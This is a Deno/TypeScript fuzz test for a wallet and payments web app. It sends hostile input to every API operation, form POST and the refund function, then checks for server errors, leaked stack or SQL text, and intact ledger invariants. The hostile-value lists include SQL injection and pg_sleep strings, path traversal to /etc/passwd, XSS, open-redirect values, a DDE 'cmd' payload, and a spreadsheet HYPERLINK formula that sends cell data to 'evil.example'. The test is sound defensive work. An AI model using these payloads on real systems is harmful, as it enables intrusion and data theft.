/**
 * A bounded fuzz run over the whole HTTP surface: every operation of the OpenAPI document (read from
 * GET /api/v1/openapi.json), every form POST of the app (read from the Hono app's `routes`) and the
 * payments-refund Edge Function, signed in as a user, as finance and as an admin where the route needs it,
 * with hostile values: NUL, lone surrogates, huge and negative numbers, 2^63, 19 nines, year 0000, overlong
 * strings, wrong types, arrays for scalars, invalid JSON, invalid UTF-8, wrong content types and charsets,
 * path traversal, SQL fragments, spreadsheet formulas.
 *
 * It asserts: no 5xx, no stack trace or SQL text in any body, and the ledger invariants afterwards. The run is
 * bounded (at most MAX_REQUESTS requests, well under 60 s) and seeded: FUZZ_SEED=<n> replays another run, and
 * a failure names the request that caused it. The requests go to `app.request()` (main.ts createApp); only
 * sign-in uses the local stack (Auth, for real sessions and tokens).
 */
import { assert, assertEquals } from "@std/assert";
import { sql } from "kysely";
import { createApp } from "../../main.ts";
import { config } from "../../lib/config.ts";
import { registeredOperations } from "../../lib/api/openapi.ts";
import { verifyAccessToken } from "../../lib/auth/tokens.ts";
import { paymentsContext } from "../../lib/payments/context.ts";
import { createRefundHandler } from "../../functions/payments-refund/index.ts";
import { asService, db } from "../_support/db.ts";
import { createApiKey } from "../../lib/apikeys/store.ts";
import { fund, randomIban } from "../_support/ledger.ts";
import { assertLedgerInvariants } from "../_support/invariants.ts";
import { Client, signIn } from "./auth_http_client.ts";
import { type Caller, caller, reauthToken, withApiStack } from "./wallet_api_client.ts";

const MAX_REQUESTS = 5000;
const MAX_SECONDS = 60;
const SEED = Number(Deno.env.get("FUZZ_SEED") ?? 20261129);
const CONCURRENCY = 8;

/** mulberry32: a small seeded PRNG, so the same seed makes the same requests in the same order. */
function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Hostile strings for any text field, query parameter or form field. */
const HOSTILE_TEXT: string[] = [
  "\u0000",
  "a\u0000b",
  "\ud800",
  "x\udfffy",
  "\udc00\ud800",
  "9223372036854775807",
  "9223372036854775808",
  "9999999999999999999",
  "18446744073709551616",
  "-9223372036854775809",
  "-1",
  "0",
  "1e309",
  "NaN",
  "Infinity",
  "0000-01-01",
  "0001-01-01",
  "0000-12-31",
  "0000-01-01T00:00:00Z",
  "0001-01-01T00:00:00+03:30",
  "9999-12-31T23:59:59Z",
  "275760-09-13",
  "0000/01/01",
  "1300/01/01",
  "x".repeat(10_000),
  "🙂".repeat(400),
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "' OR '1'='1' --",
  "1; DROP TABLE ledger.entries; --",
  "'); SELECT pg_sleep(5); --",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "<script>alert(1)</script>",
  "%00",
  "",
  " ",
  "۱۲۳۴",
  "true",
  "[]",
  "{}",
  "/\\evil.example",
  "//evil.example",
];

/** Hostile JSON values for any body field: wrong types, arrays for scalars, out-of-range numbers. */
const HOSTILE_JSON: unknown[] = [
  ...HOSTILE_TEXT.filter((_, i) => i % 2 === 0),
  2 ** 63,
  -(2 ** 63),
  9999999999999999999,
  Number.MAX_SAFE_INTEGER + 2,
  -1,
  0,
  1.5,
  1e308,
  -1e308,
  null,
  true,
  [],
  ["x"],
  [1, 2],
  {},
  { $gt: "" },
];

/** Hostile values for path parameters: ids around the int8 edge, traversal, junk. */
// No small ids here: the suite runs beside other test files, and "1" may be another test's withdrawal or
// payment. The fuzz run's own ids (and a zero-padded one) are added when it starts.
const HOSTILE_IDS = [
  "0",
  "9223372036854775807",
  "9223372036854775808",
  "9999999999999999999",
  "18446744073709551615",
  "-1",
  "1e3",
  "abc",
  "%00",
  "%ED%A0%80",
  "..%2F..%2Fetc%2Fpasswd",
  "00000000-0000-0000-0000-000000000000",
  "not-a-uuid",
  "%27%20OR%201%3D1",
];

/** Raw bodies for operations that take JSON: broken JSON, wrong shapes, bytes that are not UTF-8. */
const asJson = (body: BodyInit, type = "application/json") => ({ type, body });
const HOSTILE_BODIES: { type?: string; body: BodyInit }[] = [
  ...["{", "", "null", "[]", '"x"', "1e999", '{"amount": 1e999}', '{"amount": 9223372036854775808}'].map((
    b,
  ) => asJson(b)),
  ...['{"a":"\\u0000"}', '{"a":"\\ud800"}'].map((b) => asJson(b)),
  // Not UTF-8: {"a":"<ff fe>"} and {"a":"<c3>"} (a lead byte without its continuation).
  asJson(new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d])),
  asJson(new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x22, 0x7d])),
  ...["application/json; charset=latin1", "application/json; charset=utf-16", "application/json; charset="]
    .map((type) => asJson("{}", type)),
  asJson("{}", "text/plain"),
  asJson("amount=1", "application/x-www-form-urlencoded"),
  asJson("--x--", "multipart/form-data; boundary=x"),
  { type: undefined, body: "{}" },
];

/** Text that must never reach a client: stack frames, SQL errors, internal ids from SQL details. */
const LEAKS = [
  /at [^\s]+\.(ts|tsx|js):\d+:\d+/,
  /PostgresError/,
  /SQLSTATE/i,
  /invalid input syntax for/i,
  /out of range for type/i,
  /violates [a-z ]*constraint/i,
  /syntax error at or near/i,
  /relation "[^"]+" does not exist/i,
  /null value in column/i,
  /unsupported Unicode escape sequence/i,
  /invalid byte sequence/i,
  /account \d+ cannot/i,
  /\bERROR:\s/,
];

interface Probe {
  label: string;
  send: () => Promise<Response>;
}

interface Finding {
  label: string;
  status: number;
  body: string;
}

type Op = ReturnType<typeof registeredOperations>[number];

Deno.test({
  name: "[fuzz] every API operation and form POST — no 5xx, no stack or SQL text, ledger invariants hold",
  sanitizeOps: false,
  sanitizeResources: false,
  fn: async () => {
    await withApiStack(async (stack) => {
      const random = prng(SEED);
      const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];
      const app = createApp();
      const origin = new URL(config().APP_URL).origin;

      // The actors: a user with money, a recipient, finance (staff actions), an admin (user management).
      const [user, other, finance, admin, target] = await Promise.all([
        caller(stack, "fuzz-user"),
        caller(stack, "fuzz-other"),
        caller(stack, "fuzz-finance", "finance"),
        caller(stack, "fuzz-admin", "admin"),
        caller(stack, "fuzz-target"),
      ]);
      await fund(user.id, 10_000_000n);
      await fund(target.id, 10_000_000n);
      targetId = target.id;
      recipientEmail = other.email;
      /** Who calls an operation: the caller it needs first (staff: finance, then an admin). */
      // Charges authenticate with an API key (scope charges.create), made as the admin page would.
      const { apiKey } = await asService((tx) =>
        createApiKey(tx, { name: `fuzz-${SEED}`, accountCode: "revenue", scopes: ["charges.create"] })
      );
      const actorsFor = (op: Op): (Caller | "apikey" | undefined)[] =>
        typeof op.auth === "object" && "apiKeyScope" in op.auth
          ? ["apikey"]
          : op.auth === "public"
          ? [undefined]
          : typeof op.auth === "object"
          ? [finance, admin]
          : [user];
      const cookies = new Map<Caller, string>();
      for (const who of [user, finance, admin]) {
        const client = new Client(stack.appUrl);
        await signIn(client, who);
        cookies.set(who, [...client.cookies].map(([k, v]) => `${k}=${v}`).join("; "));
      }
      // A real pending withdrawal and payment id, so valid ids reach the deeper code too.
      const withdrawal = await app.request("/api/v1/withdrawals", {
        method: "POST",
        headers: {
          authorization: `Bearer ${user.token}`,
          "content-type": "application/json",
          "idempotency-key": `fuzz-${SEED}-w`,
          // Withdrawals ask for the password again (a re-authentication token).
          "x-reauthentication": await reauthToken(stack, user),
        },
        body: JSON.stringify({ amount: 100_000, iban: randomIban() }),
      });
      assertEquals(withdrawal.status, 201, await withdrawal.clone().text());
      const withdrawalId: string = (await withdrawal.json()).id;
      const topup = await app.request("/wallet/topup", {
        method: "POST",
        headers: { origin, cookie: cookies.get(user)!, "content-type": "application/x-www-form-urlencoded" },
        body: "tomans=100000",
      });
      assertEquals(topup.status, 303, await topup.clone().text());
      // Only the fuzz user's own payment: never another test's (verify or refund would change it).
      const { rows: [payment] } = await sql<{ id: string }>`select id::text from public.payments
        where user_id = ${user.id}::uuid order by id desc limit 1`.execute(db());
      realWithdrawalId = withdrawalId;
      realPaymentId = payment.id;
      const realIds = [realWithdrawalId, realPaymentId, `0${realWithdrawalId}`];

      const probes: Probe[] = [];
      const request = (label: string, path: string, init: RequestInit) =>
        probes.push({ label, send: () => Promise.resolve(app.request(path, init)) });

      // ---- The JSON API, from its own document --------------------------------------------------------
      const docRes = await app.request("/api/v1/openapi.json");
      assertEquals(docRes.status, 200);
      // deno-lint-ignore no-explicit-any -- a JSON document walked generically
      const doc: any = await docRes.json();
      const registry = new Map(registeredOperations().map((op) => [op.operationId, op]));
      let operations = 0;
      for (const [path, methods] of Object.entries(doc.paths as Record<string, Record<string, unknown>>)) {
        // deno-lint-ignore no-explicit-any -- OpenAPI operation objects
        for (const [method, operation] of Object.entries(methods) as [string, any][]) {
          operations++;
          const op = registry.get(operation.operationId);
          assert(op, `operation ${operation.operationId} is not registered`);
          const params = (operation.parameters ?? []) as { name: string; in: string; schema: unknown }[];
          const bodySchema = operation.requestBody?.content?.["application/json"]?.schema;
          const actors = actorsFor(op);
          const base = (values: Record<string, string>) => {
            let url = `/api/v1${path}`.replace(
              /\{(\w+)\}/g,
              (_, name) => values[name] ?? validParam(name, path),
            );
            const query = params.filter((p) => p.in === "query" && values[p.name] !== undefined)
              .map((p) => `${p.name}=${encodeQuery(values[p.name])}`);
            if (query.length) url += `?${query.join("&")}`;
            return url;
          };
          const send = (
            label: string,
            url: string,
            who: Caller | "apikey" | undefined,
            body?: { type?: string; body: BodyInit },
          ) => {
            const headers: Record<string, string> = { "accept-language": pick(["en", "fa"]) };
            if (who === "apikey") headers.authorization = `Bearer ${apiKey}`;
            else if (who) headers.authorization = `Bearer ${who.token}`;
            if (op.idempotent) headers["idempotency-key"] = `fuzz-${SEED}-${probes.length}`;
            if (body?.type) headers["content-type"] = body.type;
            request(`${operation.operationId} ${label}`, url, {
              method: method.toUpperCase(),
              headers,
              body: method === "get" ? undefined : body?.body,
            });
          };
          const validBody = () => JSON.stringify(validObject(bodySchema));
          const json = (value: unknown) => ({ type: "application/json", body: JSON.stringify(value) });

          // One valid request per actor, then each parameter and body field hostile in turn.
          for (const who of actors) {
            send("valid", base({}), who, bodySchema ? json(validObject(bodySchema)) : undefined);
          }
          for (const p of params) {
            const values = p.in === "path" ? HOSTILE_IDS : HOSTILE_TEXT;
            for (const value of values) {
              send(
                `${p.in} ${p.name}=${show(value)}`,
                base({ [p.name]: value }),
                actors[0],
                bodySchema ? { type: "application/json", body: validBody() } : undefined,
              );
            }
          }
          if (params.some((p) => p.in === "query")) {
            // Repeated parameters (arrays for scalars) and unknown ones.
            const q = params.filter((p) => p.in === "query").map((p) => `${p.name}=1&${p.name}=2`).join("&");
            send("repeated query", `${base({})}?${q}&unknown=%00`, actors[0]);
          }
          if (bodySchema) {
            for (const field of Object.keys(bodySchema.properties ?? {})) {
              for (const value of HOSTILE_JSON) {
                send(
                  `body ${field}=${show(value)}`,
                  base({}),
                  actors[0],
                  json({ ...validObject(bodySchema), [field]: value }),
                );
              }
            }
            send(
              "body extra field",
              base({}),
              actors[0],
              json({ ...validObject(bodySchema), extra: "\u0000" }),
            );
            for (const raw of HOSTILE_BODIES) {
              send(`raw body ${raw.type} ${show(String(raw.body))}`, base({}), actors[0], raw);
            }
          }
          // Everyone else: no credentials, a junk token, a plain user on staff routes.
          send("no auth", base({}), undefined, bodySchema ? json(validObject(bodySchema)) : undefined);
          request(`${operation.operationId} junk token`, base({}), {
            method: method.toUpperCase(),
            headers: { authorization: "Bearer x.y.z", "content-type": "application/json" },
            body: method === "get" ? undefined : "{}",
          });
          if (typeof op.auth === "object") {
            send("as a plain user", base({}), user, bodySchema ? json(validObject(bodySchema)) : undefined);
          }
        }
      }
      assert(operations >= registeredOperations().length, "every registered operation is in the document");

      // ---- Every form POST of the app, from its route table ----------------------------------------------
      const formPaths = [
        ...new Set(
          app.routes.filter((r) => r.method === "POST" && !r.path.startsWith("/api/"))
            .map((r) => r.path),
        ),
      ];
      assert(formPaths.length >= 15, `found ${formPaths.length} form POST routes`);
      for (const routePath of formPaths) {
        // Signing out would end the fuzzing sessions: it is sent without a session (it must still not fail).
        const who = routePath.startsWith("/admin/users")
          ? admin
          : routePath.startsWith("/admin")
          ? finance
          : routePath === "/auth/signout"
          ? undefined
          : user;
        const url = (ids: Record<string, string> = {}) =>
          routePath.replace(/:(\w+)(\{[^}]*\})?/g, (_, name) => ids[name] ?? validParam(name, routePath));
        const post = (
          label: string,
          path: string,
          form: Record<string, string>,
          headers: Record<string, string> = {},
        ) =>
          request(`POST ${routePath} ${label}`, path, {
            method: "POST",
            headers: {
              origin,
              accept: "text/html",
              "accept-language": pick(["en", "fa"]),
              "content-type": "application/x-www-form-urlencoded",
              ...(who ? { cookie: cookies.get(who)! } : {}),
              ...headers,
            },
            body: new URLSearchParams(form).toString(),
          });
        post("valid", url(), validForm());
        for (const name of (routePath.match(/:(\w+)/g) ?? []).map((p) => p.slice(1))) {
          for (const id of [...HOSTILE_IDS, ...realIds]) {
            post(`${name}=${id}`, url({ [name]: id }), validForm());
          }
        }
        for (const field of FORM_FIELDS) {
          for (const value of HOSTILE_TEXT) {
            if (random() < 0.1) post(`${field}=${show(value)}`, url(), { ...validForm(), [field]: value });
          }
        }
        post("multipart", url(), {}, { "content-type": "multipart/form-data; boundary=x" });
        post("json body", url(), {}, { "content-type": "application/json" });
        post("charset latin1", url(), validForm(), {
          "content-type": "application/x-www-form-urlencoded; charset=latin1",
        });
        request(`POST ${routePath} raw invalid UTF-8`, url(), {
          method: "POST",
          headers: {
            origin,
            "content-type": "application/x-www-form-urlencoded",
            ...(who ? { cookie: cookies.get(who)! } : {}),
          },
          body: new Uint8Array([0x6e, 0x6f, 0x74, 0x65, 0x3d, 0xff, 0xc3, 0x28]),
        });
        request(`POST ${routePath} no origin`, url(), { method: "POST", body: "a=1" });
      }

      // ---- The payments-refund Edge Function ------------------------------------------------------------
      const refund = createRefundHandler({ context: paymentsContext, verifyToken: verifyAccessToken });
      const refundCall = (label: string, body: BodyInit) =>
        probes.push({
          label: `payments-refund ${label}`,
          send: () =>
            refund(
              new Request("http://functions.local/payments-refund", {
                method: "POST",
                headers: { authorization: `Bearer ${finance.token}`, "content-type": "application/json" },
                body,
              }),
            ),
        });
      for (const id of [...HOSTILE_IDS, ...realIds, ...HOSTILE_JSON]) {
        refundCall(`payment_id=${show(id)}`, JSON.stringify({ payment_id: id, reason: "fuzz refund" }));
      }
      for (const value of HOSTILE_JSON) {
        refundCall(`reason=${show(value)}`, JSON.stringify({ payment_id: realIds[1], reason: value }));
      }
      for (const raw of HOSTILE_BODIES) refundCall(`raw ${show(String(raw.body))}`, raw.body);

      // ---- Run, bounded ------------------------------------------------------------------------------------
      // Shuffled with the seed (so no one route's state decides the others'), then dealt round-robin over
      // the operations and routes: if the time runs out under load, every one of them has had its share.
      for (let i = probes.length - 1; i > 0; i--) {
        const j = Math.floor(random() * (i + 1));
        [probes[i], probes[j]] = [probes[j], probes[i]];
      }
      const groups = Map.groupBy(
        probes,
        (p) => p.label.split(" ").slice(0, p.label.startsWith("POST ") ? 2 : 1).join(" "),
      );
      const dealt: Probe[] = [];
      for (let round = 0; dealt.length < probes.length; round++) {
        for (const group of groups.values()) if (round < group.length) dealt.push(group[round]);
      }
      probes.splice(0, probes.length, ...dealt);
      const run = probes.slice(0, MAX_REQUESTS);
      const started = performance.now();
      const findings: Finding[] = [];
      let next = 0;
      let sent = 0;
      const worker = async () => {
        while (next < run.length && performance.now() - started < MAX_SECONDS * 1000 - 5000) {
          const probe = run[next++];
          sent++;
          let res: Response;
          try {
            res = await probe.send();
          } catch (error) {
            findings.push({ label: probe.label, status: 0, body: String((error as Error)?.stack ?? error) });
            continue;
          }
          if ((res.headers.get("content-type") ?? "").startsWith("text/event-stream")) {
            // A live stream (e.g. the notification bell's) never ends by itself: its status is the answer.
            await res.body?.cancel();
            if (res.status >= 500) findings.push({ label: probe.label, status: res.status, body: "" });
            continue;
          }
          const body = await res.text();
          const leak = LEAKS.find((pattern) => pattern.test(body));
          if (res.status >= 500 || leak) {
            findings.push({ label: probe.label, status: res.status, body: body.slice(0, 300) });
          }
        }
      };
      await Promise.all(Array.from({ length: CONCURRENCY }, worker));
      const seconds = (performance.now() - started) / 1000;
      console.log(
        `fuzz: seed ${SEED}, ${sent} of ${probes.length} requests (${operations} API operations, ` +
          `${formPaths.length} form POSTs, payments-refund) in ${
            seconds.toFixed(1)
          } s, ${findings.length} findings`,
      );
      assert(sent <= MAX_REQUESTS && seconds <= MAX_SECONDS, `${sent} requests in ${seconds} s`);
      assert(sent >= Math.min(probes.length, 1000), `only ${sent} requests ran in the time allowed`);
      assertEquals(
        findings.map((f) => `${f.status} ${f.label}: ${f.body.replace(/\s+/g, " ").slice(0, 200)}`),
        [],
        `seed ${SEED}`,
      );
      await assertLedgerInvariants();
    });
  },
});

// The values the walker fills in where it is not attacking, so a hostile value reaches the code behind
// validation; set from the actors when the test starts.
let targetId = "00000000-0000-0000-0000-000000000000";
let recipientEmail = "nobody@test.pishkhan.local";
let realWithdrawalId = "1";
let realPaymentId = "1";

/** The form fields any of the app's forms reads. */
const FORM_FIELDS = [
  "recipient",
  "tomans",
  "note",
  "key",
  "reason",
  "bank_reference",
  "iban",
  "email",
  "password",
  "password_confirm",
  "current_password",
  "full_name",
  "phone",
  "locale",
  "return_to",
  "next",
  "role",
  "duration",
  "scope",
  "notify_email",
];

function validForm(): Record<string, string> {
  return {
    recipient: recipientEmail,
    tomans: "1",
    note: "fuzz",
    key: crypto.randomUUID(),
    reason: "fuzz reason",
    bank_reference: "FUZZ-1",
    iban: randomIban(),
    email: recipientEmail,
    password: "Wrong-password-1",
    password_confirm: "Wrong-password-1",
    current_password: "Wrong-password-1",
    full_name: "Fuzz",
    phone: "",
    locale: "en",
    return_to: "/",
    next: "/profile",
    role: "user",
    duration: "none",
    scope: "local",
  };
}

/** A valid value for a path parameter of `path`: a user's uuid, or a real withdrawal or payment id. */
function validParam(name: string, path: string): string {
  if (name === "provider") return "google";
  if (name === "user_id" || path.includes("/users")) return targetId;
  return path.includes("payments") ? realPaymentId : realWithdrawalId;
}

// deno-lint-ignore no-explicit-any -- JSON Schema walked generically
function validObject(schema: any): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [name, prop] of Object.entries(schema?.properties ?? {})) out[name] = validValue(name, prop);
  return out;
}

// deno-lint-ignore no-explicit-any -- JSON Schema walked generically
function validValue(name: string, schema: any): unknown {
  if (name === "to") return recipientEmail;
  if (name === "iban") return randomIban();
  if (name === "user_id") return targetId;
  if (name === "amount") return 1;
  if (schema?.type === "integer" || schema?.type === "number") return 1;
  if (schema?.enum) return schema.enum[0];
  if (schema?.format === "uuid") return targetId;
  return "fuzz text";
}

/** Percent-encodes like encodeURIComponent; a lone surrogate goes as its (invalid) 3-byte UTF-8 form. */
function encodeQuery(value: string): string {
  return value.replace(
    /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]|[^]/gu,
    (ch) => {
      if (ch.length === 1 && ch.charCodeAt(0) >= 0xd800 && ch.charCodeAt(0) <= 0xdfff) {
        const code = ch.charCodeAt(0);
        return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
          .map((b) => `%${b.toString(16).toUpperCase()}`).join("");
      }
      return encodeURIComponent(ch);
    },
  );
}

function show(value: unknown): string {
  const text = typeof value === "string" ? JSON.stringify(value) : JSON.stringify(value) ?? String(value);
  return text.length > 40 ? `${text.slice(0, 37)}…` : text;
}
